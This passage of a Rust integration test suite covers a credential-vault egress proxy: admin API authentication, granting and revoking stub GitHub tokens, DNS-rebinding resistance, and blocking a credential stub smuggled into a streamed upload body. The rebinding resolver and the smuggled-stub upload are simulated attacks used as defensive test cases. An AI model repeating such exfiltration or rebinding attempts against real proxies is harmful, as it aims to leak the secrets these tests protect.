    let c = reqwest::Client::builder().no_proxy().build().unwrap();
    assert_eq!(
        c.get(format!("{admin}/healthz"))
            .send()
            .await
            .unwrap()
            .status(),
        200
    );
    assert_eq!(
        c.get(format!("{admin}/v1/ca"))
            .send()
            .await
            .unwrap()
            .status(),
        401
    );
    assert_eq!(
        c.get(format!("{admin}/v1/ca"))
            .bearer_auth("wrong")
            .send()
            .await
            .unwrap()
            .status(),
        401
    );
    let pem = c
        .get(format!("{admin}/v1/ca"))
        .bearer_auth(ADMIN_TOKEN)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(pem.contains("BEGIN CERTIFICATE") && !pem.contains("PRIVATE"));
    let r = c
        .post(format!("{admin}/v1/grants"))
        .bearer_auth(ADMIN_TOKEN)
        .json(&serde_json::json!({"sandbox": "sb-x", "credentials": ["NOPE"]}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 400);
    let r = c.post(format!("{admin}/v1/grants")).bearer_auth(ADMIN_TOKEN)
        .json(&serde_json::json!({"sandbox": "sb-x", "credentials": ["GITHUB_TOKEN"], "session": "sess-1"})).send().await.unwrap();
    assert_eq!(r.status(), 201);
    let v: serde_json::Value = r.json().await.unwrap();
    let token = v["token"].as_str().unwrap().to_string();
    let stub = v["stubs"]["GITHUB_TOKEN"].as_str().unwrap().to_string();
    assert!(stub.starts_with("ghp_") && stub.len() == GH_REAL.len());
    let client = p.client("sb-x", &token);
    let r = client
        .get(format!("https://api.github.test:{}/echo", up.port))
        .header("authorization", format!("Bearer {stub}"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(
        c.delete(format!("{admin}/v1/grants/sb-x"))
            .bearer_auth(ADMIN_TOKEN)
            .send()
            .await
            .unwrap()
            .status(),
        204
    );
    assert_eq!(
        c.delete(format!("{admin}/v1/grants/sb-x"))
            .bearer_auth(ADMIN_TOKEN)
            .send()
            .await
            .unwrap()
            .status(),
        404
    );
    let r = p
        .client("sb-x", &token)
        .get(format!("https://api.github.test:{}/echo", up.port))
        .send()
        .await;
    assert!(r.is_err() || r.unwrap().status() == 407);
    let (_, recs) = p.audit().await;
    assert!(recs.iter().any(|r| r.session.as_deref() == Some("sess-1")));
    p.shutdown().await;
}

/// Rule 3: DNS is resolved once per tunnel by the proxy and the checked
/// address is the one dialled. The resolver answers 127.0.0.1 (where the
/// upstream listens) first and 127.0.0.2 (nothing there) afterwards: the open
/// tunnel keeps using its checked address; a new tunnel dials the new
/// answer and fails, proving the dial follows the check.
#[tokio::test]
async fn dns_resolved_once_and_checked_address_dialled() {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicUsize, Ordering};
    let up = start_upstream().await;
    let calls = Arc::new(AtomicUsize::new(0));
    let c2 = calls.clone();
    let resolver: vault_proxy::ResolveFn = Arc::new(move |host, _port| {
        let n = c2.fetch_add(1, Ordering::SeqCst);
        Box::pin(async move {
            assert_eq!(host, "rebind.test");
            Ok(vec![
                if n == 0 { "127.0.0.1" } else { "127.0.0.2" }
                    .parse()
                    .unwrap(),
            ])
        })
    });
    let p = start_proxy(
        &up,
        ProxyOpts {
            resolver: Some(resolver),
            egress_allow: vec!["rebind.test"],
            ..Default::default()
        },
    )
    .await;
    let (token, _) = p.grant("sb-a", &[]);
    let (s, _) = raw_connect(
        p.addr,
        &format!("rebind.test:{}", up.port),
        Some(&basic("sb-a", &token)),
    )
    .await;
    let tls = tls_over(s, "rebind.test", &p.ca_pem, &[b"http/1.1"])
        .await
        .unwrap();
    let (mut send, conn) = hyper::client::conn::http1::handshake(TokioIo::new(tls))
        .await
        .unwrap();
    tokio::spawn(conn);
    for _ in 0..3 {
        let req = Request::get("/")
            .header("host", format!("rebind.test:{}", up.port))
            .body(Empty::<Bytes>::new())
            .unwrap();
        let resp = send.send_request(req).await.unwrap();
        assert_eq!(resp.status(), 200);
        resp.into_body().collect().await.unwrap();
    }
    assert_eq!(calls.load(Ordering::SeqCst), 1, "one resolution per tunnel");
    assert_eq!(up.seen().len(), 3);
    // A new tunnel re-resolves (127.0.0.2, nothing listening) and fails there.
    let c = p.client("sb-a", &token);
    let r = c
        .get(format!("https://rebind.test:{}/", up.port))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 502);
    assert_eq!(calls.load(Ordering::SeqCst), 2);
    assert_eq!(up.seen().len(), 3);
    p.shutdown().await;
}

/// A stub in a large streamed (chunked, unknown length) body to an unbound
/// host aborts the upstream request before the stub is forwarded.
#[tokio::test]
async fn stub_in_streamed_body_aborts() {
    let up = start_upstream().await;
    let p = start_proxy(
        &up,
        ProxyOpts {
            egress_allow: vec!["allowed.test"],
            ..Default::default()
        },
    )
    .await;
    let (token, stubs) = p.grant("sb-a", &["GITHUB_TOKEN"]);
    let stub = stubs["GITHUB_TOKEN"].clone();
    let c = p.client("sb-a", &token);
    let mut payload = vec![b'a'; 200_000];
    payload.extend_from_slice(stub.as_bytes());
    payload.extend(vec![b'b'; 1000]);
    let chunks: Vec<Result<Vec<u8>, std::io::Error>> =
        payload.chunks(4096).map(|c| Ok(c.to_vec())).collect();
    let body = reqwest::Body::wrap_stream(futures_util::stream::iter(chunks));
    let r = c
        .post(format!("https://allowed.test:{}/upload", up.port))
        .body(body)
        .send()
        .await;
    assert!(r.map(|r| r.status() != 200).unwrap_or(true));
    assert!(
        up.seen().iter().all(|s| !s.contains(&stub)),
        "the stub never reached the upstream"
    );
    let (_, recs) = p.audit().await;
    assert!(
        recs.iter()
            .any(|r| r.reason.contains("stub_in_streamed_body"))
    );
    p.shutdown().await;
}
